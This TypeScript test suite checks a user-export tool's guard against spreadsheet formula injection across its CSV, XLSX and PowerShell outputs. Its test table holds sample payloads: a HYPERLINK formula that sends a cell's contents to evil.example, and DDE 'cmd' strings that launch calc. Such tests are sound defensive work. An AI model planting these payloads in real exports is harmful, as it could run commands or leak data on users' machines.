import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_ACTION_LABELS, type AuditEntry } from '#shared/model/audit';
import type { CsvDelimiter } from '#shared/model/export';
import { effectiveFields } from '#shared/model/fields';
import type { UserRecord } from '#shared/model/user';
import { auditToCsv } from '../audit/audit-csv';
import { readSheet } from '../sheets/read-sheet';
import { changeSet } from '../users/user-view';
import { exportColumns, resolveColumns, type ExportUser } from './columns';
import { writeCsv } from './csv';
import type { ExportDocument, WriteContext } from './document';
import { couldRunFormula, neutraliseCsvCell, restoreCsvCell } from './neutralise';
import { writePs1 } from './ps1';
import { writeXlsx } from './xlsx';
import { propertyRuns, propertyTimeout } from '../testing/property-runs';

/*
 * The formula guard, through the real writers and the real sheet reader. Each value is a user's department
 * (a text column); the username column keeps every row non-empty.
 */

const FIELDS = effectiveFields({}, []);
const COLUMNS = resolveColumns(exportColumns(FIELDS), ['department'], 'csv', 'snapshot');
const HEADER = ['directoryId', 'dn', 'username', 'department'];
const AT = '2026-01-15T15:04:05.000Z';

const internal = (i: number, department: string): UserRecord => ({
  id: `u${i}`,
  username: `user${i}`,
  kind: 'internal',
  enabled: true,
  roles: [],
  fields: department === '' ? {} : { department },
  createdAt: AT,
  updatedAt: AT,
});

/** An external AD user whose department was completed in Roster (so a change set and the PS1 carry it). */
const completed = (i: number, department: string): UserRecord => {
  const guid = `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
  const dn = `CN=User ${i},OU=Staff,DC=corp,DC=example`;
  return {
    ...internal(i, department),
    kind: 'external',
    origin: { realmId: 'ad', externalId: guid, dn, syncedAt: AT, base: { department: 'Directory value' }, baseUsername: `user${i}`, directoryEnabled: true },
  };
};

function documentOf(users: UserRecord[], delimiter: CsvDelimiter = ',', content: 'snapshot' | 'changes' = 'snapshot', columns = COLUMNS): ExportDocument {
  const rows: ExportUser[] = users.map((user) => ({ user, changes: changeSet(user, FIELDS) }));
  return {
    columns,
    rows,
    content,
    separator: ' | ',
    delimiter,
    roleName: (id) => id,
    attribute: (row, key) => (row.user.kind === 'external' && key === 'department' ? 'department' : undefined),
    about: { format: 'csv', content, scope: 'All users', realms: [], at: new Date(AT), who: 'test', users: rows.length, skipped: [], rosterVersion: 'test' },
  };
}

const quiet = (): WriteContext => ({ signal: new AbortController().signal, progress: () => undefined });

let dir: string;
let files = 0;
const nextFile = (ext: string) => join(dir, `f${(files += 1)}.${ext}`);
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'roster-guard-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** The CSV's department cells exactly as the file holds them (csv-parse undoes only the RFC 4180 quoting). */
async function csvCells(values: readonly string[], delimiter: CsvDelimiter = ','): Promise<string[]> {
  const file = nextFile('csv');
  await writeCsv(
    documentOf(
      values.map((v, i) => internal(i, v)),
      delimiter,
    ),
    file,
    quiet(),
  );
  const records = parse(await readFile(file), { bom: true, delimiter: delimiter === 'tab' ? '\t' : delimiter, record_delimiter: '\r\n' }) as string[][];
  expect(records[0]).toEqual(HEADER);
  return records.slice(1).map((r) => r[3]!);
}

/** The XLSX's department cells as exceljs reads them back. */
async function xlsxCells(values: readonly string[]): Promise<ExcelJS.Cell[]> {
  const file = nextFile('xlsx');
  await writeXlsx(documentOf(values.map((v, i) => internal(i, v))), file, quiet());
  const sheet = (await new ExcelJS.Workbook().xlsx.readFile(file)).getWorksheet('Users')!;
  return values.map((_, i) => sheet.getRow(i + 2).getCell(4));
}

/** Export -> re-import through the real writer and reader: the department column as Roster reads it back. */
async function roundTrip(values: readonly string[], format: 'xlsx' | CsvDelimiter): Promise<string[]> {
  const file = nextFile(format === 'xlsx' ? 'xlsx' : 'csv');
  const doc = documentOf(
    values.map((v, i) => internal(i, v)),
    format === 'xlsx' ? ',' : format,
  );
  await (format === 'xlsx' ? writeXlsx(doc, file, quiet()) : writeCsv(doc, file, quiet()));
  const sheet = await readSheet(file);
  expect(sheet.headers).toEqual(HEADER);
  expect(sheet.rows.map((r) => r.cells[2])).toEqual(values.map((_, i) => `user${i}`));
  return sheet.rows.map((r) => r.cells[3]!);
}

/**
 * Value -> the CSV cell Roster writes. XLSX always holds the value itself. `inline`: the XLSX cell is an
 * inline string with OOXML escapes, because a plain exceljs text cell cannot carry the value (xlsx-text.ts).
 */
const TABLE: { value: string; csv: string; inline?: true }[] = [
  // Formula starts: neutralised whatever follows.
  { value: '=1+2', csv: "'=1+2" },
  { value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', csv: '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
  { value: '@SUM(A1)', csv: "'@SUM(A1)" },
  { value: '\tx', csv: "'\tx" },
  { value: '\rx', csv: "'\rx", inline: true },
  { value: '=', csv: "'=" },
  // + and - followed by anything but a number or phone number: neutralised.
  { value: "+cmd|' /C calc'!A0", csv: "'+cmd|' /C calc'!A0" },
  { value: "-1+cmd|' /C calc'!A0", csv: "'-1+cmd|' /C calc'!A0" },
  { value: '-Sales', csv: "'-Sales" },
  { value: '+49 30 1234567 ext. 5', csv: "'+49 30 1234567 ext. 5" },
  // The multi-value separator's | is also DDE's: a joined phone list is neutralised as a whole.
  { value: '+1 555 0101 | +1 555 0102', csv: "'+1 555 0101 | +1 555 0102" },
  // Numbers and phone numbers: exact.
  { value: '+49 30 1234567', csv: '+49 30 1234567' },
  { value: '+1 (415) 788-4115', csv: '+1 (415) 788-4115' },
  { value: '+44.20.7946.0958', csv: '+44.20.7946.0958' },
  { value: '+33 1/23 45 67 89', csv: '+33 1/23 45 67 89' },
  { value: '-5', csv: '-5' },
  { value: '-', csv: '-' },
  { value: '+', csv: '+' },
  // Only digits and + - after a sign: exact by the rule (at most arithmetic, nothing can be called).
  { value: '-2+3', csv: '-2+3' },
  // An apostrophe first gets a second one, so re-import can always take one off.
  { value: "'quoted", csv: "''quoted" },
  { value: "'", csv: "''" },
  { value: "''", csv: "'''" },
  { value: "'=1+2", csv: "''=1+2" },
  { value: "'+49 30 1234567", csv: "''+49 30 1234567" },
  // Everything else: exact.
  { value: '', csv: '' },
  { value: "O'Brien", csv: "O'Brien" },
  { value: '2024-01-01', csv: '2024-01-01' },
  { value: 'a=b', csv: 'a=b' },
  { value: ' =1+2', csv: ' =1+2' },
  { value: '\n=1+2', csv: '\n=1+2' },
  { value: 'Zoë Ångström, Société Générale', csv: 'Zoë Ångström, Société Générale' },
  { value: '山田 太郎 😀', csv: '山田 太郎 😀' },
  { value: '０１２３', csv: '０１２３' },
  // Values a plain exceljs text cell would change: CR, controls, entity-like and escape-like text.
  { value: 'line one\r\nline two', csv: 'line one\r\nline two', inline: true },
  { value: 'a\u0001b\u001fc\u007f', csv: 'a\u0001b\u001fc\u007f', inline: true },
  { value: 'R&amp;D &lt;3', csv: 'R&amp;D &lt;3', inline: true },
  { value: '_x0041_ and _x005F_x0041_', csv: '_x0041_ and _x005F_x0041_', inline: true },
  { value: 'R&D', csv: 'R&D' },
];

describe('the CSV formula guard', () => {
  it('writes each value of the table as its exact expected CSV cell, with every delimiter', async () => {
    const values = TABLE.map((t) => t.value);
    for (const delimiter of [',', ';', 'tab'] as const) {
      expect(await csvCells(values, delimiter)).toEqual(TABLE.map((t) => t.csv));
    }
  });

  it('puts the apostrophe only before values that could run something or that start with one', () => {
    for (const { value, csv } of TABLE) {
      expect(neutraliseCsvCell(value)).toBe(csv);
      expect(couldRunFormula(value)).toBe(csv !== value && !value.startsWith("'"));
    }
  });

  it('keeps the bytes of phone numbers as they are: no apostrophe, no quoting', async () => {
    const file = nextFile('csv');
    await writeCsv(documentOf([internal(0, '+49 30 1234567'), internal(1, '=1+2')]), file, quiet());
    expect((await readFile(file, 'utf8')).split('\r\n').slice(1)).toEqual([',,user0,+49 30 1234567', ",,user1,'=1+2", '']);
  });

  it('re-import takes off exactly the apostrophe the export added', () => {
    for (const { value, csv } of TABLE) expect(restoreCsvCell(csv)).toBe(value);
    // What earlier Roster versions wrote before every + and -: taken off too.
    expect(restoreCsvCell("'+49 30 1234567")).toBe('+49 30 1234567');
    expect(restoreCsvCell("'-5")).toBe('-5');
    // An apostrophe Roster never adds stays.
    expect(restoreCsvCell("'quoted")).toBe("'quoted");
    expect(restoreCsvCell("O'Brien")).toBe("O'Brien");
  });

  it('neutralises the audit journal CSV by the same rule, without doubling apostrophes', () => {
    const entry: AuditEntry = {
      seq: 1,
      at: AT,
      who: '=cmd',
      action: 'user.update',
      username: "'quoted",
      userId: 'u1',
      changes: [{ field: 'phone', before: '+49 30 1234567', after: "+cmd|' /C calc'!A0" }],
    };
    const records = parse(
      auditToCsv([entry], (id) => id),
      { bom: true },
    ) as string[][];
    expect(records[1]).toEqual([
      '1',
      AT,
      "'=cmd",
      AUDIT_ACTION_LABELS['user.update'],
      "'quoted",
      'u1',
      '',
      'phone',
      '+49 30 1234567',
      "'+cmd|' /C calc'!A0",
      '',
    ]);
  });
});

describe('XLSX values', () => {
  it('holds every value of the table exactly, as a text cell under the @ format, with no apostrophe added', async () => {
    const cells = await xlsxCells(TABLE.map((t) => t.value));
    const read = cells.map((cell) => {
      const v = cell.value;
      return v !== null && typeof v === 'object' && 'richText' in v ? { inline: v.richText.map((r) => r.text).join('') } : v;
    });
    expect(read).toEqual(TABLE.map((t) => (t.value === '' ? null : t.inline ? { inline: t.value } : t.value)));
    for (const cell of cells) expect(cell.numFmt).toBe('@');
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it("re-import reads an earlier Roster's apostrophes off, and no other workbook's", async () => {
    const workbook = (about: string | undefined) => {
      const book = new ExcelJS.Workbook();
      const users = book.addWorksheet('Users');
      users.addRows([HEADER, ['', '', 'user0', "'+49 30 1234567"], ['', '', 'user1', "'=1+2"], ['', '', 'user2', "'quoted"]]);
      if (about !== undefined) book.addWorksheet('About this export').addRows([['Roster export'], ['Formula-looking cells', about]]);
      return book;
    };
    const read = async (book: ExcelJS.Workbook) => {
      const file = nextFile('xlsx');
      await book.xlsx.writeFile(file);
      return (await readSheet(file)).rows.map((r) => r.cells[3]);
    };
    const legacy =
      "A cell that would start a formula (= + - @, tab or carriage return) has a leading apostrophe (') so spreadsheet programs show it as text; Roster's re-import removes it.";
    expect(await read(workbook(legacy))).toEqual(['+49 30 1234567', '=1+2', "'quoted"]);
    expect(await read(workbook(undefined))).toEqual(["'+49 30 1234567", "'=1+2", "'quoted"]);
    expect(await read(workbook('Values are written exactly as Roster holds them.'))).toEqual(["'+49 30 1234567", "'=1+2", "'quoted"]);
  });
});

/** Any string, leaning on the starts and characters the guard and the file formats care about. */
const SPECIAL = ['=', '+', '-', '@', "'", "''", '\t', '\r', '\n', '\r\n', ' ', '|', '"', ',', ';', '&lt;', '&amp;', '_x000D_', '_x005F_', '\u0000', '\u007f'];
const phoneLike = fc
  .tuple(fc.constantFrom('+', '-'), fc.array(fc.constantFrom(...'0123456789 ().-/+'), { maxLength: 16 }))
  .map(([sign, rest]) => sign + rest.join(''));
const anyValue = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'binary-ascii' }),
  fc.tuple(fc.constantFrom(...SPECIAL), fc.string({ unit: 'binary-ascii' })).map(([start, rest]) => start + rest),
  fc.tuple(fc.constantFrom(...SPECIAL), phoneLike).map(([start, rest]) => start + rest),
  fc.array(fc.oneof(fc.constantFrom(...SPECIAL), fc.string({ maxLength: 3 })), { maxLength: 6 }).map((parts) => parts.join('')),
  phoneLike,
  fc.constantFrom(...TABLE.map((t) => t.value)),
);
const anyValues = fc.array(anyValue, { minLength: 1, maxLength: 12 });

describe('export -> re-import returns every value unchanged (property)', () => {
  it('holds for the table', async () => {
    const values = TABLE.map((t) => t.value);
    for (const format of ['xlsx', ',', ';', 'tab'] as const) expect(await roundTrip(values, format)).toEqual(values);
  });

  it.each(['xlsx', ',', ';', 'tab'] as const)(
    'holds for arbitrary strings (%s)',
    async (format) => {
      await fc.assert(
        fc.asyncProperty(anyValues, async (values) => {
          expect(await roundTrip(values, format)).toEqual(values);
        }),
        { numRuns: propertyRuns(60) },
      );
    },
    propertyTimeout(),
  );

  // Every column a user's values go to, each typed as the export types it (phone, email, identifier and DN
  // cells in XLSX), with external users' directory id and DN: the whole row comes back as it was.
  const FIELD_KEYS = FIELDS.map((f) => f.key);
  const ALL_COLUMNS = resolveColumns(exportColumns(FIELDS), FIELD_KEYS, 'csv', 'snapshot');
  const person = fc.record({
    external: fc.boolean(),
    id: anyValue.filter((v) => v !== ''),
    dn: anyValue.filter((v) => v !== ''),
    fields: fc.dictionary(fc.constantFrom(...FIELD_KEYS), anyValue),
  });
  it.each(['xlsx', ',', ';', 'tab'] as const)(
    'holds for every field column and the identity columns at once (%s)',
    async (format) => {
      await fc.assert(
        fc.asyncProperty(fc.array(person, { minLength: 1, maxLength: 6 }), async (people) => {
          const users = people.map((p, i): UserRecord => {
            const fields = Object.fromEntries(Object.entries(p.fields).filter(([, v]) => v !== ''));
            const user = { ...internal(i, ''), fields };
            if (!p.external) return user;
            return {
              ...user,
              kind: 'external',
              origin: { realmId: 'ad', externalId: p.id, dn: p.dn, syncedAt: AT, base: {}, baseUsername: `user${i}`, directoryEnabled: true },
            };
          });
          const file = nextFile(format === 'xlsx' ? 'xlsx' : 'csv');
          const doc = documentOf(users, format === 'xlsx' ? ',' : format, 'snapshot', ALL_COLUMNS);
          await (format === 'xlsx' ? writeXlsx(doc, file, quiet()) : writeCsv(doc, file, quiet()));
          const sheet = await readSheet(file);
          expect(sheet.headers).toEqual(['directoryId', 'dn', 'username', ...FIELD_KEYS]);
          expect(sheet.rows.map((r) => r.cells)).toEqual(
            users.map((u) => [u.origin?.externalId ?? '', u.origin?.dn ?? '', u.username, ...FIELD_KEYS.map((k) => u.fields[k] ?? '')]),
          );
        }),
        { numRuns: propertyRuns(25) },
      );
    },
    propertyTimeout(),
  );

  it('holds for the rule itself on any string, and restoring never touches a value the export left alone', () => {
    fc.assert(
      fc.property(anyValue, (value) => {
        expect(restoreCsvCell(neutraliseCsvCell(value))).toBe(value);
        if (neutraliseCsvCell(value) === value) expect(restoreCsvCell(value)).toBe(value);
      }),
      { numRuns: propertyRuns(2000) },
    );
  });

  it('XLSX also carries what CSV cannot: unpaired surrogates and non-characters', async () => {
    const values = ['a\ud800b', '\udc00', '\ufffe\uffff', '\u0000'];
    expect(await roundTrip(values, 'xlsx')).toEqual(values);
  });
});

describe('the PowerShell script', () => {
  // No PowerShell here: the script's own Restore-Cell pattern is taken from its text and run over its CSV.
  async function scriptAndCsv(values: readonly string[]) {
    const script = nextFile('ps1');
    const csv = nextFile('csv');
    await writePs1(
      documentOf(
        values.map((v, i) => completed(i, v)),
        ',',
        'changes',
      ),
      script,
      csv,
      quiet(),
    );
    const text = await readFile(script, 'utf8');
    const line = text.split('\r\n').find((l) => l.includes('-cmatch'));
    const quoted = line?.match(/^ {4}if \(\$Value -cmatch '((?:[^']|'')*)'\) \{ return \$Value\.Substring\(1\) \}$/);
    expect(quoted).not.toBeNull();
    const pattern = new RegExp(quoted![1]!.replace(/''/g, "'"));
    const records = parse(await readFile(csv), { bom: true }) as string[][];
    expect(records[0]).toEqual(['ObjectGUID', 'DistinguishedName', 'SamAccountName', 'department', 'Clear']);
    return { pattern, cells: records.slice(1).map((r) => r[3]!) };
  }

  it('strips with the same pattern as re-import, and writes the same CSV cells', async () => {
    const values = TABLE.map((t) => t.value).filter((v) => v !== '');
    const { pattern, cells } = await scriptAndCsv(values);
    expect(pattern.source).toBe("^'[=+\\-@\\t\\r']");
    expect(cells).toEqual(TABLE.filter((t) => t.value !== '').map((t) => t.csv));
    expect(cells.map((c) => (pattern.test(c) ? c.slice(1) : c))).toEqual(values);
  });

  it('gives back every value Roster exported, for arbitrary strings (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          anyValue.filter((v) => v !== '' && v !== 'Directory value'),
          { minLength: 1, maxLength: 8 },
        ),
        async (values) => {
          const { pattern, cells } = await scriptAndCsv(values);
          expect(cells.map((c) => (pattern.test(c) ? c.slice(1) : c))).toEqual(values);
        },
      ),
      { numRuns: propertyRuns(40) },
    );
  });
});
